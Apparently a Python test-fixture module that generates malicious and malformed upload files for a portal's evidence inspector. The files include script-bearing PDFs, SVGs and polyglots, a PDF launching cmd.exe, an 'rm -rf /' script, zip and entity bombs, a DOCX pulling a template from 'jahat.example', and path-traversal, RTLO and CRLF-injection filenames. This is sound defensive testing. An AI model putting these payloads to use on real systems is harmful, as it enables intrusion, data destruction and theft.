"""Files that are no evidence, each made by code, with a part of the sentence that the sender must be told.

`python -m tests.evidence.bad_files` prints the table of docs/measurements.md.
"""

from __future__ import annotations

import io
import os
import struct
import zlib
from collections.abc import Callable

from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from tests.evidence import good_files as good
from tests.spreadsheets import bad_files as sheets

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
UNLISTED = b"99 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%%EOF\n"
DAMAGED, ACTIVE, ZIP = "rusak atau tidak lengkap", "memuat skrip, perintah, atau berkas lain", "arsip ZIP"


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims any size and holds one row of nothing."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    lines = zlib.compress(bytes(3 * min(width, 1000) + 1))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def png_with_text() -> bytes:
    notes = PngInfo()
    notes.add_text("Comment", HTML.decode())
    stream = io.BytesIO()
    good.scene().save(stream, "PNG", pnginfo=notes)
    return stream.getvalue()


def broken(content: bytes, at: float, length: int = 200) -> bytes:
    """Noise over a part of the file."""
    start = int(len(content) * at)
    return content[:start] + bytes((7 * n) % 251 for n in range(length)) + content[start + length :]


def pdf_with(change: Callable[[PdfWriter], None]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(300, 300)
    change(writer)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def _action(kind: str, **more) -> DictionaryObject:
    entries = {NameObject(f"/{name}"): value for name, value in more.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **entries})


def _opening(kind: str, **more) -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(_action(kind, **more))

    return pdf_with(change)


def _on_page(writer: PdfWriter) -> None:
    action = _action("/JavaScript", JS=TextStringObject("app.alert(1)"))
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})


def _js_by_name(writer: PdfWriter) -> None:
    action = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), action])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})


def _xfa(writer: PdfWriter) -> None:
    form = DecodedStreamObject()
    form.set_data(b"<xdp:xdp/>")
    fields = DictionaryObject({NameObject("/XFA"): writer._add_object(form)})
    writer.root_object[NameObject("/AcroForm")] = fields


def pdf_in_object_stream() -> bytes:
    """The script hidden in a compressed object stream, where no search of the bytes finds it."""
    inner = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    return _compressed_pdf([(4, inner)])


def _compressed_pdf(hidden: list[tuple[int, bytes]]) -> bytes:
    body, offsets = b"%PDF-1.5\n", {}
    head = b" ".join(b"%d 0" % number for number, _ in hidden) + b" "
    packed = zlib.compress(head + b"".join(content for _, content in hidden))
    parts = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        5: b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(hidden), len(head), len(packed), packed),
    }
    for number, part in parts.items():
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    offsets[6] = len(body)
    rows = [b"\0\0\0\0\0"]
    for number in range(1, 7):
        rows.append(b"\2\0\0\5\0" if number == 4 else b"\1" + struct.pack(">I", offsets[number])[1:] + b"\0")
    table = zlib.compress(b"".join(rows))
    body += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n%s\n"
        b"endstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
    ) % (len(table), table, offsets[6])
    return body


def locked_pdf() -> bytes:
    return pdf_with(lambda writer: writer.encrypt("rahasia", algorithm="RC4-128"))


WORD = {
    "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "_rels/.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
    "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
}


def docx(**more: bytes) -> bytes:
    """A document of Word; more: further parts, "__" for "/"."""
    return sheets.zip_of({**WORD, **{name.replace("__", "/"): data for name, data in more.items()}})


def _template_elsewhere() -> bytes:
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://jahat.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    return sheets.zip_of({**WORD, "word/_rels/settings.xml.rels": relation})


def _entities() -> bytes:
    return sheets.zip_of({**WORD, "word/document.xml": (sheets.LAUGHS + "<x>&d;</x>").encode()})


def gif_html() -> bytes:
    return b"GIF89a/*" + HTML + b"*/=1;"


def gif() -> bytes:
    stream = io.BytesIO()
    Image.new("P", (9, 9)).save(stream, "GIF")
    return stream.getvalue()


def tiff() -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", (9, 9)).save(stream, "TIFF")
    return stream.getvalue()


def boxes(brand: bytes) -> bytes:
    return b"\0\0\0\x18ftyp" + brand + b"\0\0\0\0" + brand + b"mif1" + bytes(64)


def heic_of_nothing() -> bytes:
    return boxes(b"heic")


def nested_zip() -> bytes:
    return sheets.zip_of({"a.zip": sheets.zip_of({"b.txt": b"x" * 1000})})


# (what it is, bytes, the name it comes with, a part of the answer)
BAD: list[tuple[str, Callable[[], bytes], str, str]] = [
    ("0 bytes", lambda: b"", "foto.jpg", "kosong (0 bita)"),
    ("one byte", lambda: b"x", "foto.jpg", "teks biasa"),
    ("text named .jpg", lambda: b"halo bupati", "foto.jpg", "teks biasa"),
    ("EICAR named .pdf", lambda: EICAR, "eicar.pdf", "teks biasa"),
    ("HTML named .jpg", lambda: HTML, "foto.jpg", "halaman web"),
    ("SVG with script", lambda: SVG, "gambar.png", "SVG"),
    ("SVG in UTF-16", lambda: SVG.decode().encode("utf-16"), "gambar.png", "SVG"),
    ("XML", lambda: b"<?xml version='1.0'?><a/>", "a.docx", "dokumen XML"),
    ("GIF", gif, "a.jpg", "GIF"),
    ("polyglot GIF/HTML", gif_html, "a.gif", "GIF"),
    ("BMP", lambda: b"BM" + bytes(100), "a.png", "BMP"),
    ("TIFF", tiff, "a.jpg", "TIFF"),
    ("AVIF", lambda: boxes(b"avif"), "a.heic", "AVIF"),
    ("video MP4 named .heic", lambda: boxes(b"isom"), "a.heic", "video"),
    ("Windows program named .jpg", lambda: b"MZ\x90\0" + bytes(200), "a.jpg", "program Windows"),
    ("Linux program", lambda: b"\x7fELF\2" + bytes(200), "a.pdf", "program"),
    ("shell script", lambda: b"#!/bin/sh\nrm -rf /\n", "a.pdf", "skrip"),
    ("RTF named .docx", lambda: b"{\\rtf1 halo}", "a.docx", "RTF"),
    ("RAR", lambda: b"Rar!\x1a\7\0" + bytes(40), "a.docx", "RAR"),
    ("7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(40), "a.docx", "7z"),
    ("GZIP", lambda: b"\x1f\x8b\x08" + bytes(40), "a.pdf", "GZIP"),
    ("noise", lambda: bytes((n * 89 + 3) % 256 for n in range(4000)), "a.jpg", "format yang tidak dikenal"),
    ("JPEG cut at 50 %", lambda: good.photo()[: len(good.photo()) // 2], "a.jpg", DAMAGED),
    ("JPEG, header only", lambda: b"\xff\xd8\xff\xe0", "a.jpg", DAMAGED),
    ("PNG cut at 50 %", lambda: good.photo("PNG")[: len(good.photo("PNG")) // 2], "a.png", DAMAGED),
    ("PNG with noise inside", lambda: broken(good.photo("PNG"), 0.5), "a.png", DAMAGED),
    ("WebP cut at 50 %", lambda: good.photo("WEBP")[: len(good.photo("WEBP")) // 2], "a.webp", DAMAGED),
    ("HEIC cut at 50 %", lambda: good.photo("HEIF")[: len(good.photo("HEIF")) // 2], "a.heic", DAMAGED),
    ("HEIC with noise over its boxes", lambda: broken(good.photo("HEIF"), 0.02), "a.heic", DAMAGED),
    ("HEIC of a header only", heic_of_nothing, "a.heic", DAMAGED),
    ("PNG of 60,000 × 60,000 points", lambda: png_header(60_000, 60_000), "a.png", "juta titik"),
    ("PNG of 2³¹ points in a row", lambda: png_header(2**31 - 1, 1), "a.png", "juta titik"),
    ("PNG one point wider than allowed", lambda: png_header(50_001, 1000), "a.png", "juta titik"),
    ("PDF cut at 50 %", lambda: good.pdf(9)[: len(good.pdf(9)) // 2], "a.pdf", DAMAGED),
    ("PDF, header only", lambda: b"%PDF-1.7\n%%EOF", "a.pdf", DAMAGED),
    ("PDF without pages", lambda: pdf_with(lambda w: w.remove_page(0)), "a.pdf", "0 halaman"),
    ("polyglot JS/PDF (script before the header)", lambda: b"alert(1)//" + good.pdf(), "a.pdf", "teks biasa"),
    ("PDF with JavaScript on opening", lambda: _opening("/JavaScript", JS=TextStringObject("1")), "a.pdf", ACTIVE),
    ("PDF with JavaScript by name", lambda: pdf_with(_js_by_name), "a.pdf", ACTIVE),
    ("PDF with JavaScript on a page", lambda: pdf_with(_on_page), "a.pdf", ACTIVE),
    ("PDF with JavaScript in a packed object", pdf_in_object_stream, "a.pdf", ACTIVE),
    ("PDF with JavaScript in an object that no table lists", lambda: good.pdf() + UNLISTED, "a.pdf", ACTIVE),
    (
        "PDF with JavaScript spelled #4aavaScript",
        lambda: _opening("/JavaScript").replace(b"/JavaScript", b"/#4aavaScript"),
        "a.pdf",
        ACTIVE,
    ),
    ("PDF that launches a program", lambda: _opening("/Launch", F=TextStringObject("cmd.exe")), "a.pdf", ACTIVE),
    ("PDF that sends a form", lambda: _opening("/SubmitForm", F=TextStringObject("http://x")), "a.pdf", ACTIVE),
    ("PDF with an embedded file", lambda: pdf_with(lambda w: w.add_attachment("x.exe", b"MZ")), "a.pdf", ACTIVE),
    ("PDF with an XFA form", lambda: pdf_with(_xfa), "a.pdf", ACTIVE),
    ("PDF with a password", locked_pdf, "a.pdf", "berkata sandi"),
    ("old Word/Excel (CFB)", lambda: sheets.cfb("WordDocument"), "a.docx", "Office lama"),
    ("plain ZIP named .docx", lambda: sheets.zip_of({"a.txt": b"x"}), "a.docx", ZIP),
    ("ZIP in a ZIP", nested_zip, "a.docx", ZIP),
    ("DOCX, a bomb of 300 MB", lambda: docx(word__media__a=bytes(300 << 20)), "a.docx", "termampat"),
    ("XLSX, a bomb", lambda: sheets.zip_of({"xl/workbook.xml": bytes(200 << 20)}), "a.xlsx", "termampat"),
    ("XLSX that lies about its sizes", sheets.with_lying_sizes, "a.xlsx", ""),
    ("DOCX with 1,000 parts", lambda: sheets.many_members(1000), "a.docx", "termampat"),
    ("DOCX cut at 50 %", lambda: docx()[: len(docx()) // 2], "a.docx", DAMAGED),
    (
        "DOCX with a macro",
        lambda: docx(word__vbaProject=b"x", **{"word__vbaProject.bin": b"x"}),
        "a.docx",
        "makro",
    ),
    ("DOCX with an embedded object", lambda: docx(word__embeddings__ole=b"x"), "a.docx", "objek tertanam"),
    ("DOCX whose template lies on the web", _template_elsewhere, "a.docx", "tautan luar"),
    ("DOCX with an entity bomb", _entities, "a.docx", "DOCTYPE"),
    ("DOCX with a path that leaves it", lambda: docx(**{"../../etc/passwd": b"x"}), "a.docx", "menunjuk ke luar"),
    ("XLSX with a link to a shared folder", lambda: sheets.external_link("\\\\jahat\\x"), "a.xlsx", "tautan luar"),
]

# Taken, because people open only the picture that was decoded from them: (what it is, bytes, kind)
NEUTRALISED: list[tuple[str, Callable[[], bytes], str]] = [
    ("polyglot JPEG/HTML (page behind the picture)", lambda: good.photo() + HTML, "jpg"),
    ("polyglot JPEG/ZIP", lambda: good.photo() + sheets.zip_of({"a.exe": b"MZ"}), "jpg"),
    ("PNG that claims more rows than it has", lambda: png_header(1000, 1000), "png"),
    ("PNG with a script as its text", png_with_text, "png"),
]

# Names that come with a good photo: (what, name, what is shown, what it is saved as)
NAMES: list[tuple[str, str, str, str]] = [
    ("path", "../../etc/passwd", "passwd", "passwd.jpg"),
    ("Windows path", "C:\\Users\\a\\foto.jpg", "foto.jpg", "foto.jpg"),
    ("RTLO", "foto\u202egpj.exe", "fotogpj.exe", "fotogpj.jpg"),
    ("line break", 'a"\r\nX-Jahat: 1\r\n.jpg', 'a"X-Jahat: 1.jpg', "a_X-Jahat_ 1.jpg"),
    ("NUL", "a\0b.jpg", "ab.jpg", "ab.jpg"),
    ("two extensions", "a.php.jpg", "a.php.jpg", "a.php.jpg"),
    ("reserved by Windows", "CON.jpg", "CON.jpg", "_CON.jpg"),
    ("only dots", "..", "tanpa nama", "tanpa nama.jpg"),
    ("tag", "<img src=x onerror=alert(1)>.jpg", "<img src=x onerror=alert(1)>.jpg", "_img src=x onerror=alert(1)_.jpg"),
    ("Indonesian and other letters", "rapat satgas é 會.jpg", "rapat satgas é 會.jpg", "rapat satgas é 會.jpg"),
]


def table() -> str:
    """The rows of docs/measurements.md: what each file got from the real inspector."""
    from reporting.submissions.evidence.inspection import inspect
    from reporting.submissions.evidence.kinds import Unacceptable

    lines = []
    for what, make, name in [row[:3] for row in BAD] + [(row[0], row[1], f"a.{row[2]}") for row in NEUTRALISED]:
        try:
            answer = f"taken as {inspect(make(), name).kind}; people get the picture only"
        except Unacceptable as refusal:
            answer = str(refusal)
        lines.append(f"| {what} | {answer} |")
    return "\n".join(lines)


if __name__ == "__main__":
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "katingan_portal.settings")
    print(table())
